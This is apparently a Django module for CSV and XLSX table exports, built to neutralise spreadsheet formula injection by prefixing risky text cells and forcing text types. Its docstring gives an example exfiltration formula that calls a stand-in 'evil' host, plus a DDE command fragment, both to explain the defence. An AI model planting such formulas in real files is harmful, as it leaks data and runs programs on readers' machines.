"""CSV and XLSX export of any table (DESIGN §8): how every cell is written, for every export of this package.

A view builds its rows through the access-scoping queryset as usual, lists its columns and returns
`export_response(...)`; this module only decides how each cell is written, so every export writes
money, dates and text the same way.

Both formats are opened in Excel or LibreOffice by people who did not write them, and a text cell that
starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip before
reading one of those) is run as a formula there: `=HYPERLINK("http://evil/?"&A1, "Klik")` leaks the
sheet, `=cmd|...` runs programs through DDE. Every text cell therefore gets a leading `'`, while numbers
and dates stay numbers and dates (a negative amount is `-1500.00`, not `'-1500.00`).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, WriteOnlyCell
from openpyxl.styles import Font

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = ("csv", "xlsx")

# Characters that make a spreadsheet read a text cell as a formula (OWASP "CSV injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# CSV has no boolean type; words people read in the default language. They are fixed rather than
# translated so that the same export reads the same whatever language the exporting user chose.
CSV_TRUE = "ya"
CSV_FALSE = "tidak"

# ISO dates in XLSX too: unambiguous for both the Indonesian dd/mm and the English mm/dd reader.
XLSX_DATE_FORMAT = "yyyy-mm-dd"
XLSX_DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
XLSX_SHEET_TITLE = "Data"

_BOLD = Font(bold=True)


@dataclass(frozen=True)
class Column:
    """One exported column: its header and how to take its cell from a row (an object, dict, tuple...)."""

    header: str
    value: Callable[[Any], Any]


def escape_formula(text: str) -> str:
    """Prefix `'` to text a spreadsheet would run as a formula; any other text is returned unchanged.

    Only for text: numbers and dates must be written as numbers and dates, never passed through here.
    """
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def export_response(*, filename: str, columns: Sequence[Column], rows: Iterable[Any], fmt: str) -> HttpResponse:
    """A download of `rows` as `<filename>.csv` or `<filename>.xlsx`; `fmt` is "csv" or "xlsx".

    Raises ValueError for any other `fmt` before `rows` is read. `rows` is iterated once.
    """
    if fmt == "csv":
        response = HttpResponse(content_type=CSV_CONTENT_TYPE)
        _write_csv(response, columns, rows)
    elif fmt == "xlsx":
        response = HttpResponse(_xlsx_bytes(columns, rows), content_type=XLSX_CONTENT_TYPE)
    else:
        raise ValueError(f"Unknown export format {fmt!r}; expected one of {FORMATS}.")
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=f"{filename}.{fmt}")
    return response


def _clean_text(value: Any) -> str:
    """Text as both formats write it: control characters XLSX refuses removed, then formula-escaped.

    Stripping first matters: `"\\x01=cmd"` would otherwise become `=cmd` after the strip and go unescaped.
    CSV strips the same characters so that both downloads of one table hold the same text.
    """
    return escape_formula(ILLEGAL_CHARACTERS_RE.sub("", str(value)))


def _local_naive(value: dt.datetime) -> dt.datetime:
    """Wall-clock time in the current time zone (Asia/Jakarta); naive values are already local (DESIGN §8)."""
    if timezone.is_aware(value):
        value = timezone.localtime(value)
    return value.replace(tzinfo=None)


# --- CSV -------------------------------------------------------------------------------------------


def _csv_cell(value: Any) -> str:
    # bool before int (bool is an int) and datetime before date (datetime is a date).
    if value is None:
        return ""
    if isinstance(value, bool):
        return CSV_TRUE if value else CSV_FALSE
    if isinstance(value, Decimal):
        # "f" never gives an exponent or a thousands separator and keeps the Decimal's own scale.
        return format(value, "f")
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        # repr is the shortest exact text of a float but may use an exponent (1e+20); Decimal undoes it.
        return format(Decimal(repr(value)), "f")
    if isinstance(value, dt.datetime):
        return _local_naive(value).strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, dt.date):
        return value.isoformat()
    return _clean_text(value)


def _write_csv(out: HttpResponse, columns: Sequence[Column], rows: Iterable[Any]) -> None:
    # UTF-8 with a BOM: without it Excel on Windows reads UTF-8 as the ANSI code page and garbles
    # non-ASCII names; LibreOffice and Python's "utf-8-sig" both skip the BOM.
    out.write("\ufeff")
    # The "excel" dialect: comma separator, quotes only where needed (comma, quote, line break),
    # doubled quotes inside, CRLF line ends as in RFC 4180.
    writer = csv.writer(out)
    writer.writerow([_clean_text(column.header) for column in columns])
    for row in rows:
        writer.writerow([_csv_cell(column.value(row)) for column in columns])


# --- XLSX ------------------------------------------------------------------------------------------


def _xlsx_cell(ws: Any, value: Any) -> Any:
    if value is None or isinstance(value, bool | int | float):
        # Native number or boolean (Excel shows TRUE/FALSE in the reader's own language).
        return value
    if isinstance(value, Decimal):
        # A number cell (Excel keeps every number as a double), shown with the Decimal's own decimals.
        cell = WriteOnlyCell(ws, value=value)
        places = -value.as_tuple().exponent if value.is_finite() else 0
        cell.number_format = "#,##0." + "0" * places if places > 0 else "#,##0"
        return cell
    if isinstance(value, dt.datetime):
        # openpyxl cannot store an aware datetime: Excel has no time zones.
        cell = WriteOnlyCell(ws, value=_local_naive(value))
        cell.number_format = XLSX_DATETIME_FORMAT
        return cell
    if isinstance(value, dt.date):
        cell = WriteOnlyCell(ws, value=value)
        cell.number_format = XLSX_DATE_FORMAT
        return cell
    cell = WriteOnlyCell(ws, value=_clean_text(value))
    # openpyxl guesses from the text: "=..." becomes a formula and "#N/A" an error value. Text is text.
    cell.data_type = "s"
    return cell


def _xlsx_bytes(columns: Sequence[Column], rows: Iterable[Any]) -> bytes:
    # write_only streams rows to a temporary file instead of keeping every cell object in memory.
    workbook = Workbook(write_only=True)
    ws = workbook.create_sheet(XLSX_SHEET_TITLE)
    header = []
    for column in columns:
        cell = WriteOnlyCell(ws, value=_clean_text(column.header))
        cell.data_type = "s"
        cell.font = _BOLD
        header.append(cell)
    ws.append(header)
    for row in rows:
        ws.append([_xlsx_cell(ws, column.value(row)) for column in columns])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
